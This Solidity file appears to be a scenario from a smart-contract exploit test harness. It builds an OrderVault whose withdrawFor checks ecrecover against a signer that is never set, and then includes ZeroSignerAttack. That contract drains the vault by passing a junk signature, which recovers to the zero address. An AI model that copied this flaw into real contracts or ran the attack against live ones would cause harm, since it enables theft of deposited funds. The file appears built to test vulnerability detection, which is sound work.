// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Its signer was never set, and what cannot be recovered is signed by nobody.
contract OrderVault {
    IERC20 public immutable asset;
    address public signer;
    mapping(address => uint256) public balanceOf;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        asset.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    function withdrawFor(address to, uint256 amount, bytes32 hash, uint8 v, bytes32 r, bytes32 s) external {
        require(ecrecover(hash, v, r, s) == signer, "signature");
        asset.transfer(to, amount);
        emit Withdraw(to, amount);
    }
}

contract ZeroSignerScene is Scene {
    Token public usd;
    OrderVault public vault;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        vault = new OrderVault(IERC20(address(usd)));
        usd.mint(address(vault), 2_500_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(vault));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = vault.balanceOf(who);
        if (held > 0 && dice >> 200 & 1 == 0) return (address(vault), 0, abi.encodeCall(OrderVault.withdraw, (held)));
        return (address(vault), 0, abi.encodeCall(OrderVault.deposit, (_amount(dice, 100e18, 20_000e18))));
    }
}

contract ZeroSignerAttack is Attack {
    OrderVault private immutable vault;

    constructor(ZeroSignerScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        uint256 bite = loot0.balanceOf(address(vault)) / (count - index);
        vault.withdrawFor(address(this), bite, keccak256("nothing"), 99, bytes32(uint256(1)), bytes32(uint256(1)));
    }
}
